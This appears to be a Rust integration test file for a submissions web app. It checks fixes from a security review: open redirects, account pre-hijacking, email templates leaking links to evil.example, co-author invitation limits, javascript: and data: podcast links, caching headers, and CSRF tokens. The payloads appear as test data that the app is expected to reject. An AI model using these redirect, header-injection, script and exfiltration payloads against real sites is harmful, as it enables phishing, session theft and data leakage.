//! What a security review found, each reproduced and closed, on both backends: open redirects
//! after sign-in, account pre-hijacking, templates that send secrets or people elsewhere,
//! unbounded co-author invitations, podcast links of any scheme, cached signed-in pages, early
//! errors without security headers, and CSRF cookies on public pages.

use docket_store::{Actor, StaffRole};
use docket_tests::app::{NowTimestamp, TestApp, form_token};
use docket_tests::both_backends;
use docket_tests::db::TestDb;
use jiff::SignedDuration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

both_backends! {
    sign_in_sends_people_only_to_paths_on_this_site => return_paths,
    a_password_set_before_the_address_was_confirmed_stops_working_when_its_owner_signs_in => pre_hijacking,
    an_organiser_s_template_cannot_fetch_images_link_elsewhere_or_grow_without_bound => template_limits,
    co_author_invitations_are_capped_and_take_plain_addresses_only => invitation_limits,
    a_podcast_link_is_checked_every_time_the_draft_is_saved => podcast_links,
    signed_in_pages_are_never_stored_and_public_pages_set_no_cookie => caching,
    early_errors_carry_the_security_headers => early_errors,
    form_tokens_are_signed_before_sign_in_and_tied_to_the_session_after => form_tokens,
}

const PASSWORD: &str = "correct horse battery";

async fn return_paths(db: &TestDb) {
    let app = TestApp::spawn(db).await;
    app.signed_up("ada@example.org", PASSWORD).await;
    for next in [
        "//evil.example",
        "/\t/evil.example",
        "/\\evil.example",
        "/%2F/evil.example",
        "/%09/evil.example",
        "https:evil.example",
        "https://evil.example/",
        "/\r\nSet-Cookie: a=b",
        "/\n/evil.example",
    ] {
        let visitor = app.visitor();
        let page = visitor
            .post(
                "/account/sign-in",
                &[
                    ("email", "ada@example.org"),
                    ("password", PASSWORD),
                    ("next", next),
                ],
            )
            .await;
        assert_eq!(page.status, 303, "{next:?}: {}", page.body);
        assert_eq!(page.location(), "/submissions", "{next:?}");
        // The sign-in page itself carries only a safe path in its form.
        let query = serde_urlencoded_pair("next", next);
        let form = visitor.get(&format!("/account/sign-in?{query}")).await;
        assert_eq!(form.status, 200, "{next:?}");
        assert!(!form.body.contains("evil.example"), "{next:?}");
    }
    let visitor = app.visitor();
    let page = visitor
        .post(
            "/account/sign-in",
            &[
                ("email", "ada@example.org"),
                ("password", PASSWORD),
                ("next", "/calls/digital-justice-week-2022/submit"),
            ],
        )
        .await;
    assert_eq!(page.location(), "/calls/digital-justice-week-2022/submit");
    app.stop().await;
}

fn serde_urlencoded_pair(name: &str, value: &str) -> String {
    let encoded: String = value
        .bytes()
        .map(|byte| match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'.' | b'_' => {
                (byte as char).to_string()
            }
            _ => format!("%{byte:02X}"),
        })
        .collect();
    format!("{name}={encoded}")
}

async fn pre_hijacking(db: &TestDb) {
    let app = TestApp::spawn(db).await;
    // Mallory makes an account with Victor's address and a password of her own.
    let mallory = app.visitor();
    let page = mallory
        .post(
            "/account/sign-up",
            &[
                ("email", "victor@example.org"),
                ("password", "mallory's own password"),
            ],
        )
        .await;
    assert_eq!(page.status, 303);
    // A session somehow made for the unconfirmed account (none is given out, but none may
    // survive confirmation either).
    let user = app
        .store
        .user_by_email("victor@example.org")
        .await
        .unwrap()
        .unwrap();
    let now = app.clock.now_timestamp();
    app.store
        .create_session(
            user.id,
            "planted-session-hash",
            now,
            now + SignedDuration::from_hours(5),
        )
        .await
        .unwrap();
    // Victor signs in by an emailed code: that proves the address is his.
    let victor = app.visitor();
    let asked = victor
        .post("/account/sign-in/code", &[("email", "victor@example.org")])
        .await;
    assert_eq!(asked.status, 303);
    let code = app
        .mail_to("victor@example.org")
        .await
        .into_iter()
        .find(|mail| mail.template == "sign_in_code")
        .unwrap()
        .text
        .split_whitespace()
        .find(|word| word.len() == 8 && word.bytes().all(|b| b.is_ascii_digit()))
        .unwrap()
        .to_owned();
    let signed_in = victor
        .post(
            "/account/sign-in/code/verify",
            &[("email", "victor@example.org"), ("code", code.as_str())],
        )
        .await;
    assert_eq!(signed_in.status, 303, "{}", signed_in.body);
    assert_eq!(victor.get("/submissions").await.status, 200);
    // Mallory's password no longer opens the account, and her planted session is gone.
    let attempt = app
        .visitor()
        .post(
            "/account/sign-in",
            &[
                ("email", "victor@example.org"),
                ("password", "mallory's own password"),
            ],
        )
        .await;
    assert_eq!(attempt.status, 400, "{}", attempt.body);
    assert!(
        app.store
            .session(
                "planted-session-hash",
                app.clock.now_timestamp(),
                SignedDuration::from_hours(12)
            )
            .await
            .unwrap()
            .is_none()
    );
    let user = app
        .store
        .user_by_email("victor@example.org")
        .await
        .unwrap()
        .unwrap();
    assert!(user.password_hash.is_none());
    // Someone who signs up and confirms by the link keeps the password they chose.
    app.signed_up("ada@example.org", PASSWORD).await;
    let page = app
        .visitor()
        .post(
            "/account/sign-in",
            &[("email", "ada@example.org"), ("password", PASSWORD)],
        )
        .await;
    assert_eq!(page.status, 303);
    app.stop().await;
}

async fn template_limits(db: &TestDb) {
    let app = TestApp::spawn(db).await;
    let organiser = app.signed_up("org@example.org", PASSWORD).await;
    let call = app
        .store
        .call("digital-justice-week-2022")
        .await
        .unwrap()
        .unwrap();
    app.store
        .add_staff(
            call.id,
            "org@example.org",
            StaffRole::Organiser,
            &Actor::Cli,
            app.clock.now_timestamp(),
        )
        .await
        .unwrap();
    organiser.enrol_two_factor().await;
    let receipt = "/console/calls/digital-justice-week-2022/emails/receipt";
    let text = "Thanks.\r\n{{ piece.link }}\r\n";
    for (html, text, expected) in [
        (
            "<p>Thanks</p><img src=\"https://evil.example/p.gif?t={{ piece.link }}\">",
            text,
            "Emails cannot show images",
        ),
        (
            "<p><a href=\"https://evil.example/?t={{ piece.link }}\">Open</a></p>",
            text,
            "Emails may only link to Docket",
        ),
        (
            "<p>Thanks</p>",
            "Thanks. https://evil.example/?t={{ piece.link }}\r\n{{ piece.link }}\r\n",
            "Emails may only link to Docket",
        ),
        (
            "{% for i in range(9000) %}{{ piece.title }}{{ piece.days }}{{ piece.link }}{% endfor %}",
            text,
            "far longer than any email should",
        ),
    ] {
        let page = organiser
            .post(
                receipt,
                &[
                    ("subject", "Received"),
                    ("text", text),
                    ("html", html),
                    ("action", "save"),
                ],
            )
            .await;
        assert_eq!(page.status, 400, "{html}: {}", page.body);
        assert!(page.body.contains(expected), "{expected}: {}", page.body);
    }
    assert!(app.store.mail_templates(call.id).await.unwrap().is_empty());
    // A link to Docket's own pages is fine.
    let page = organiser
        .post(
            receipt,
            &[
                ("subject", "Received"),
                ("text", text),
                ("html", "<p><a href=\"{{ piece.link }}\">Your piece</a>, <a href=\"{{ call.url }}\">the call</a></p>"),
                ("action", "save"),
            ],
        )
        .await;
    assert_eq!(page.status, 303, "{}", page.body);
    app.stop().await;
}

/// A piece started and returned by id.
async fn start(visitor: &docket_tests::app::Visitor, kind: &str) -> i64 {
    let page = visitor
        .post(
            "/calls/digital-justice-week-2022/submit",
            &[("kind", kind), ("day", "2022-11-17")],
        )
        .await;
    assert_eq!(page.status, 303, "{}", page.body);
    page.location()
        .trim_start_matches("/submissions/")
        .trim_end_matches("/edit")
        .parse()
        .unwrap()
}

async fn invitation_limits(db: &TestDb) {
    let app = TestApp::spawn(db).await;
    let ada = app.signed_up("ada@example.org", PASSWORD).await;
    let first = start(&ada, "blog").await;
    let invite = |piece: i64, email: String| {
        let ada = &ada;
        async move {
            ada.post(
                &format!("/submissions/{piece}/coauthors"),
                &[("email", email.as_str())],
            )
            .await
        }
    };
    for bad in [
        "\"a>b,<c\"@example.com",
        "co(author)@example.org",
        "co@[192.0.2.1]",
        "co author@example.org",
    ] {
        let page = invite(first, bad.to_owned()).await;
        assert_eq!(page.status, 400, "{bad}: {}", page.body);
    }
    for n in 0..10 {
        let page = invite(first, format!("co{n}@example.org")).await;
        assert_eq!(page.status, 303, "invitation {n}: {}", page.body);
    }
    let page = invite(first, "co10@example.org".into()).await;
    assert_eq!(page.status, 400);
    assert!(page.body.contains("at most 10 co-authors"), "{}", page.body);
    // Ten an hour, whatever the piece.
    let second = start(&ada, "blog").await;
    let page = invite(second, "another@example.org".into()).await;
    assert_eq!(page.status, 400);
    assert!(page.body.contains("in the last hour"), "{}", page.body);
    app.clock.advance(SignedDuration::from_mins(61));
    let page = invite(second, "another@example.org".into()).await;
    assert_eq!(page.status, 303, "{}", page.body);
    let invited = app
        .store
        .outbox(100)
        .await
        .unwrap()
        .into_iter()
        .filter(|row| row.mail.template == "coauthor_invite")
        .count();
    assert_eq!(invited, 11);
    app.stop().await;
}

async fn podcast_links(db: &TestDb) {
    let app = TestApp::spawn(db).await;
    let ada = app.signed_up("ada@example.org", PASSWORD).await;
    let id = start(&ada, "podcast").await;
    for bad in [
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "ftp://example.org/ep.mp3",
    ] {
        let page = ada
            .post_multipart(
                &format!("/submissions/{id}/edit"),
                &[
                    ("kind", "podcast"),
                    ("title", "Episode 12"),
                    ("link", bad),
                    ("day", "2022-11-17"),
                    ("author_name_0", "Ada"),
                    ("action", "save"),
                ],
                vec![],
            )
            .await;
        assert_eq!(page.status, 400, "{bad}");
        assert!(page.body.contains("full web address"), "{}", page.body);
    }
    let record = app
        .store
        .submission(docket_store::SubmissionId(id))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(record.draft.link, None, "no such link was stored");
    assert_eq!(
        record.draft.title, "Episode 12",
        "the rest of the draft was kept"
    );
    let page = ada
        .post_multipart(
            &format!("/submissions/{id}/edit"),
            &[
                ("kind", "podcast"),
                ("title", "Episode 12"),
                ("link", "https://podcasts.example.org/ep12.mp3"),
                ("minutes", "25 minutes"),
                ("day", "2022-11-17"),
                ("author_name_0", "Ada"),
                ("action", "save"),
            ],
            vec![],
        )
        .await;
    assert_eq!(page.status, 303, "{}", page.body);
    app.stop().await;
}

async fn caching(db: &TestDb) {
    let app = TestApp::spawn(db).await;
    let anonymous = app.visitor();
    for path in [
        "/",
        "/calls/digital-justice-week-2022",
        "/calls/digital-justice-week-2022/days/2022-11-15",
        "/calls/digital-justice-week-2022/guidelines",
    ] {
        let page = anonymous.get(path).await;
        assert_eq!(page.status, 200);
        assert!(
            page.headers.get("set-cookie").is_none(),
            "{path} sets a cookie"
        );
        assert_eq!(page.header("cache-control"), "public, max-age=60", "{path}");
    }
    for path in ["/account/sign-in", "/account/sign-up"] {
        let page = anonymous.get(path).await;
        assert!(
            page.headers.get("set-cookie").is_none(),
            "{path} sets a cookie"
        );
        assert_eq!(page.header("cache-control"), "no-store", "{path}");
    }
    let ada = app.signed_up("ada@example.org", PASSWORD).await;
    for path in [
        "/",
        "/calls/digital-justice-week-2022",
        "/submissions",
        "/calls/digital-justice-week-2022/submit",
        "/console",
        "/account/sign-in",
    ] {
        let page = ada.get(path).await;
        assert_eq!(page.header("cache-control"), "no-store", "{path} signed in");
    }
    app.stop().await;
}

async fn early_errors(db: &TestDb) {
    let app = TestApp::spawn_with(
        db,
        docket_web::WebConfig {
            max_body_bytes: 1024,
            ..docket_web::WebConfig::default()
        },
    )
    .await;
    // Refused before the body is read: the answer still carries every security header.
    let mut stream = tokio::net::TcpStream::connect(app.address).await.unwrap();
    stream
        .write_all(
            b"POST /account/sign-in HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 999999\r\n\r\n",
        )
        .await
        .unwrap();
    let mut answer = vec![0u8; 8192];
    let read = tokio::time::timeout(std::time::Duration::from_secs(10), stream.read(&mut answer))
        .await
        .unwrap()
        .unwrap();
    let answer = String::from_utf8_lossy(&answer[..read]).to_lowercase();
    assert!(answer.starts_with("http/1.1 413"), "{answer}");
    for header in [
        "content-security-policy:",
        "x-content-type-options: nosniff",
        "x-frame-options: deny",
        "referrer-policy:",
        "cache-control: no-store",
    ] {
        assert!(answer.contains(header), "{header} missing from {answer}");
    }
    // A cross-site form and an unknown method are early answers too.
    let cross = app
        .http
        .post(app.url("/account/sign-in"))
        .header("sec-fetch-site", "cross-site")
        .form(&[("email", "a@example.org")])
        .send()
        .await
        .unwrap();
    assert_eq!(cross.status().as_u16(), 403);
    assert!(cross.headers().get("content-security-policy").is_some());
    let odd = app
        .http
        .delete(app.url("/submissions"))
        .send()
        .await
        .unwrap();
    assert_eq!(odd.status().as_u16(), 405);
    assert!(odd.headers().get("x-frame-options").is_some());
    app.stop().await;
}

async fn form_tokens(db: &TestDb) {
    let app = TestApp::spawn(db).await;
    // A visitor with no cookies at all: the form's own signed token is enough.
    let page = app.get("/account/sign-up").await;
    assert!(page.headers.get("set-cookie").is_none());
    let token = form_token(&page.body).unwrap();
    let signed_up = app
        .http
        .post(app.url("/account/sign-up"))
        .form(&[
            ("email", "ada@example.org"),
            ("password", PASSWORD),
            ("csrf", token.as_str()),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(signed_up.status().as_u16(), 303);
    // A made-up token, or one with its time changed, is refused.
    let forged = token.replacen(|c: char| c.is_ascii_digit(), "9", 1);
    for bad in [forged.as_str(), "1.abc.def", ""] {
        let refused = app
            .http
            .post(app.url("/account/sign-up"))
            .form(&[
                ("email", "bea@example.org"),
                ("password", PASSWORD),
                ("csrf", bad),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(refused.status().as_u16(), 403, "{bad}");
    }
    // Once signed in, the token belongs to the session: another session's is refused, and so
    // is the one served before sign-in.
    let ada = app.signed_up("cy@example.org", PASSWORD).await;
    let bea = app.signed_up("dee@example.org", PASSWORD).await;
    let before = form_token(&app.get("/account/sign-in").await.body).unwrap();
    let theirs = bea.csrf().await;
    let mine = ada.csrf().await;
    assert_ne!(mine, theirs);
    assert_eq!(mine, ada.csrf().await, "stable within a session");
    for other in [theirs.as_str(), before.as_str()] {
        let page = ada.post_raw("/account/sign-out", &[("csrf", other)]).await;
        assert_eq!(page.status, 403);
    }
    let page = ada
        .post_raw("/account/sign-out", &[("csrf", mine.as_str())])
        .await;
    assert_eq!(page.status, 303);
    assert_eq!(ada.get("/submissions").await.status, 303, "signed out");
    app.stop().await;
}
